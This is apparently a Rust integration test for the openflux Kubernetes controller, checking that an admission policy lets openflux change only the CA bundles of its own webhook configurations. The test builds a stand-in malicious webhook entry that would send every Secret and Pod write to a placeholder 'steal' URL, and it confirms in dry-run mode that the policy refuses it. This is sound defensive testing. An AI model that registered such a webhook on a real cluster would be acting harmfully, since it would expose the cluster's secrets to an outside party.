/// An entry calling `url` for every write of a Secret or Pod: what a
/// taken-over openflux would add to see them.
fn secrets_and_pods(name: &str) -> Value {
    json!({"name": name, "admissionReviewVersions": ["v1"], "sideEffects": "None",
           "failurePolicy": "Ignore", "clientConfig": {"url": "https://198.18.0.1/steal"},
           "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets", "pods"],
                      "operations": ["CREATE", "UPDATE"], "scope": "*"}]})
}

/// What `openflux run --validating-webhook-service=openflux-webhook` makes,
/// as the manifests install it: the configuration `openflux` calling the
/// shipped Service's port `validate`, owned by openflux's ClusterRole (by
/// uid, neither controller nor blocking its deletion).
async fn published_validating_webhook(env: &Env) -> ValidatingWebhookConfiguration {
    let service: Service = serde_yaml_ng::from_str(WEBHOOK_SERVICE).expect("the shipped Service");
    let target = Target {
        namespace: service.metadata.namespace.clone().expect("its namespace"),
        service: service.metadata.name.clone().expect("its name"),
        port: configuration::service_port(&service, "validate").expect("its port validate"),
    };
    let roles: Api<ClusterRole> = Api::all(env.client.clone());
    let owner = roles
        .get("openflux")
        .await
        .expect("openflux's ClusterRole")
        .owner_ref(&());
    assert!(owner.is_some(), "openflux's ClusterRole has a uid");
    configuration::desired("openflux", &target, owner).expect("the validating configuration")
}

/// openflux's credentials change, of the webhook configurations RBAC lets
/// them patch, only the CA bundles of the entries they have: adding an
/// entry (one that would send every Secret and Pod to a taken-over
/// openflux) or changing an entry's rules is refused, and so is creating a
/// ValidatingWebhookConfiguration of another name, or `openflux` with
/// another entry. What openflux writes passes: the CA bundle patch of
/// `certs::cabundle`, and the validating configuration
/// `registration` creates or writes over an earlier release's.
/// Dry runs all: the configurations the tests make under openflux's names
/// match no object.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openflux_changes_only_the_ca_bundles_of_its_webhook_configurations() {
    openflux_changes_only_the_ca_bundles_of_its_webhook_configurations_on(Cell::Main).await;
}

/// [`openflux_changes_only_the_ca_bundles_of_its_webhook_configurations`] on `cell`'s control plane (e2e_kubernetes runs it on
/// every Kubernetes line).
pub(crate) async fn openflux_changes_only_the_ca_bundles_of_its_webhook_configurations_on(
    cell: Cell,
) {
    let env = support::cell(cell).await;
    install(&env).await;
    let openflux = openflux_client(&env).await;
    let dry = PatchParams {
        dry_run: true,
        ..Default::default()
    };
    let dry_post = PostParams {
        dry_run: true,
        ..Default::default()
    };
    let policy = "openflux-webhook-configurations";
    let ca = openflux::certs::Authority::generate(openflux::certs::DEFAULT_CA_VALIDITY)
        .expect("a CA")
        .cert_pem
        .into_bytes();
    let mut stand_ins = StandIns {
        config: env.config.clone(),
        names: Vec::new(),
    };

    // The mutating configuration: no entry added, none changed.
    let shipped: Value = serde_yaml_ng::from_str(MUTATING_WEBHOOK).expect("the shipped YAML");
    stand_ins.make(&env, shipped).await;
    let mutating: Api<MutatingWebhookConfiguration> = Api::all(openflux.clone());
    let add = json!([{"op": "add", "path": "/webhooks/-", "value": secrets_and_pods("everything.openflux.dev")}]);
    let message = first_refusal(
        "an entry for Secrets and Pods in the MutatingWebhookConfiguration openflux",
        policy,
        || {
            let (mutating, add, dry) = (mutating.clone(), add.clone(), dry.clone());
            async move {
                let patch: json_patch::Patch = serde_json::from_value(add).expect("a JSON patch");
                mutating
                    .patch("openflux", &dry, &Patch::Json::<()>(patch))
                    .await
            }
        },
    )
    .await;
    assert!(
        message.contains(
            "openflux may change only clientConfig.caBundle of the entries of MutatingWebhookConfiguration openflux: refused an update that adds, removes, renames or reorders entries"
        ),
        "{message}"
    );
    let rules: json_patch::Patch = serde_json::from_value(json!([{
        "op": "add", "path": "/webhooks/0/rules/-",
        "value": {"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets", "pods"],
                  "operations": ["CREATE", "UPDATE"], "scope": "*"}}]))
    .expect("a JSON patch");
    let message = refusal(
        "a rule for Secrets and Pods in an entry",
        policy,
        mutating
            .patch("openflux", &dry, &Patch::Json::<()>(rules))
            .await,
    );
    assert!(
        message.contains("refused an update that changes an entry beside its caBundle"),
        "{message}"
    );
    let current = mutating
        .get("openflux")
        .await
        .expect("reading the configuration as openflux");
    let patch =
        openflux::certs::cabundle::ca_bundle_patch(&current, &ca).expect("a CA bundle to write");
    mutating
        .patch("openflux", &dry, &Patch::Json::<()>(patch))
        .await
        .expect("openflux writing its CA bundle into the MutatingWebhookConfiguration");

    // The validating configuration: created only as openflux ships it.
    let validating: Api<ValidatingWebhookConfiguration> = Api::all(openflux.clone());
    let mut anything: ValidatingWebhookConfiguration = serde_json::from_value(json!({
        "metadata": {"name": "zz-anything"}, "webhooks": [secrets_and_pods("everything.openflux.dev")]}))
    .expect("a configuration");
    let message = refusal(
        "a ValidatingWebhookConfiguration zz-anything",
        policy,
        validating.create(&dry_post, &anything).await,
    );
    assert!(
        message.contains(
            "openflux may create only the ValidatingWebhookConfiguration openflux, with exactly the entries it ships: refused to create ValidatingWebhookConfiguration zz-anything"
        ),
        "{message}"
    );
    let published = published_validating_webhook(&env).await;
    anything = published.clone();
    anything.metadata.name = Some("zz-anything".into());
    refusal(
        "the shipped entries in a configuration of another name",
        policy,
        validating.create(&dry_post, &anything).await,
    );
    let Write::Create(created) = configuration::plan(None, published.clone(), &ca) else {
        panic!("nothing to create");
    };
    let mut more = (*created).clone();
    more.webhooks.get_or_insert_with(Vec::new).push(
        serde_json::from_value(secrets_and_pods("secrets.validate.openflux.dev"))
            .expect("an entry"),
    );
    let message = refusal(
        "the ValidatingWebhookConfiguration openflux with another entry",
        policy,
        validating.create(&dry_post, &more).await,
    );
    assert!(
        message.contains("(its entries are not the shipped ones)"),
        "{message}"
    );
    // What the registration controller creates (admitted: an existing
    // one answers AlreadyExists only after admission).
    match validating.create(&dry_post, &created).await {
        Ok(_) => {}
        Err(kube::Error::Api(e)) if e.code == 409 => {}
        Err(e) => panic!("openflux creating its ValidatingWebhookConfiguration: {e}"),
    }

    // An earlier release's configuration, written over as the
    // registration controller writes it; then its CA bundle.
    let mut earlier = serde_json::to_value(&created).expect("JSON");
    earlier["apiVersion"] = json!(ADMISSION);
    earlier["kind"] = json!("ValidatingWebhookConfiguration");
    earlier["metadata"] = json!({"name": "openflux"});
    let entries = earlier["webhooks"].as_array_mut().expect("entries");
    entries.pop();
    for entry in entries {
        entry["clientConfig"]
            .as_object_mut()
            .expect("a clientConfig")
            .remove("caBundle");
    }
    stand_ins.make(&env, earlier).await;
    let current = validating
        .get("openflux")
        .await
        .expect("reading the configuration as openflux");
    if current.labels().contains_key(STAND_IN) {
        let Write::Replace(over) = configuration::plan(Some(&current), published.clone(), &ca)
        else {
            panic!("the earlier configuration is not written over");
        };
        validating
            .replace("openflux", &dry_post, &over)
            .await
            .expect("openflux writing its ValidatingWebhookConfiguration over an earlier one");
        let patch = openflux::certs::cabundle::ca_bundle_patch(&current, &ca)
            .expect("a CA bundle to write");
        validating
            .patch("openflux", &dry, &Patch::Json::<()>(patch))
            .await
            .expect("openflux writing its CA bundle into the ValidatingWebhookConfiguration");
        let rules: json_patch::Patch = serde_json::from_value(json!([{
            "op": "replace", "path": "/webhooks/0/rules/0/resources",
            "value": ["kustomizations", "secrets"]}]))
        .expect("a JSON patch");
        let message = refusal(
            "another rule in the ValidatingWebhookConfiguration openflux",
            policy,
            validating
                .patch("openflux", &dry, &Patch::Json::<()>(rules))
                .await,
        );
        assert!(
            message.contains("refused an update that changes an entry beside its caBundle"),
            "{message}"
        );
    }
    drop(stand_ins);
}
